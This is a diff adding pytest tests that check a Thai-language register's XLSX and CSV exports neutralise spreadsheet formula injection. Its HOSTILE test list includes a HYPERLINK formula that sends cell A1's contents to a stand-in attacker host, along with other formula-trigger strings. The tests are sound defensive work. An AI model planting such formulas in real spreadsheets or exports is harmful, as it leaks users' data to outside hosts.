@@ -145,3 +145,32 @@ def test_the_register_of_a_real_store_exports(db):
     assert row["กำหนดเสร็จ"] == datetime(2026, 9, 30) and isinstance(row["ปรับปรุงล่าสุด (เวลาประเทศไทย)"], datetime)
     back = pd.read_csv(io.BytesIO(register_csv(register)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
     assert back.loc[0, "โอกาสในการปรับปรุง"] == "ทบทวนกระบวนการวางแผน" and back.loc[0, "กำหนดเสร็จ"] == "2026-09-30"
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_a_spreadsheet_would_run_is_exported_inert(frame, text):
+    frame.loc[0, "description"] = text
+    frame.loc[0, "owner"] = text
+    sheet = read_xlsx(register_xlsx(frame))
+    header = [c.value for c in sheet[1]]
+    cells = {header[i]: sheet.cell(row=2, column=i + 1) for i in range(len(header))}
+    for column in ("ofi_col_description", "ofi_col_owner"):
+        cell = cells[translate(column, "th")]
+        assert cell.data_type == "s" and cell.value == ("'" + text).replace("\r", "\n")  # XML keeps no \r
+    rows = read_csv_rows(register_csv(frame))
+    assert rows[1][header.index(translate("ofi_col_description", "th"))] == "'" + text
+    # ordinary text, numbers and dates are untouched
+    assert cells[translate("ofi_col_points", "th")].value == pytest.approx(5.357142857)
+    description = header.index(translate("ofi_col_description", "th")) + 1
+    assert sheet.cell(row=3, column=description).value == "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\""
+
+
+def test_chart_and_audit_csv_downloads_are_inert_too():
+    from ui.overview_data import csv_of
+
+    data = pd.DataFrame({"=name": ["=1+1", "ปกติ", "-ลบ"], "points": [-5.0, 1.0, 2.0]})
+    rows = read_csv_rows(csv_of(data, index=False)())
+    assert rows == [["'=name", "points"], ["'=1+1", "-5.0"], ["ปกติ", "1.0"], ["'-ลบ", "2.0"]]
